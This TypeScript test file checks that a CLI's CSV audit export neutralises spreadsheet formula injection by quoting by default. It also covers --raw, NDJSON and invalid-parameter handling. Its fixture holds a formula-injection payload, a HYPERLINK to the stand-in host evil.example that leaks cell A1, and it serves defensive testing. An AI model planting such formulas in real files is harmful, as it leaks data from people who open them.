// The CLI is specified against the real api app; its fixture (responders, facade stand-in) is test-only code, not a dependency.
import { startApiApp, type ApiTestApp } from '@keelson/api/testing';
import { keelson, type CliRun } from '../test-fixtures/run-cli.js';

// A value an attacker could try to get into a cell (the subject is the one free-form text column besides the
// data, which is JSON and starts with `{`): a spreadsheet runs it as a formula when it leads the cell.
const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"open")';

describe('keelson audit export --format csv: cells that would open as formulas', () => {
  let t: ApiTestApp;
  let run: (...args: string[]) => Promise<CliRun>;
  const window = ['--since', '2026-01-01T00:00:00Z', '--until', '2027-01-01T00:00:00Z'];

  beforeAll(async () => {
    t = await startApiApp();
    run = (...args) => keelson(t.url, t.adminToken, ...args);
    t.audit.add('csv-7', 'RolloutHalted', { rolloutId: 'r-c1' });
    t.audit.add('csv-7', 'RolloutHalted', { rolloutId: 'r-c2' });
    t.audit.entries.at(-1)!.subject = formula;
  });
  afterAll(() => t.close());

  const subjects = (csv: string): string[] =>
    csv
      .split('\r\n')
      .slice(1, -1)
      .map((row) => row.split(',')[5]!);

  it('get a leading quote by default, and the other cells stay as they are', async () => {
    const res = await run('audit', 'export', ...window, '--fleet', 'csv-7', '--format', 'csv');
    expect(res).toMatchObject({ code: 0, stderr: '' });
    expect(res.stdout).toContain(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1`);
    expect(subjects(res.stdout)[0]).toBe('ev.rollout.csv-7.r-c1');
  });

  it('stay byte for byte with --raw (the evidence form)', async () => {
    const res = await run('audit', 'export', ...window, '--fleet', 'csv-7', '--format', 'csv', '--raw');
    expect(res).toMatchObject({ code: 0, stderr: '' });
    expect(res.stdout).toContain(`,"=HYPERLINK(""http://evil.example/?leak=""&A1`);
    expect(res.stdout).not.toContain(`'=`);
  });

  it('never touch NDJSON, which no spreadsheet runs', async () => {
    const res = await run('audit', 'export', ...window, '--fleet', 'csv-7');
    expect(res).toMatchObject({ code: 0, stderr: '' });
    const lines = res.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { subject: string });
    expect(lines.map((l) => l.subject)).toEqual(['ev.rollout.csv-7.r-c1', formula]);
  });

  it('refuses a raw that is not true or false before streaming', async () => {
    const res = await fetch(
      `${t.url}/v1/audit/export?fleet=csv-7&since=2026-01-01T00:00:00Z&until=2027-01-01T00:00:00Z&format=csv&raw=yes`,
      {
        headers: { authorization: `Bearer ${t.adminToken}` },
      },
    );
    expect(res.status).toBe(400);
  });
});
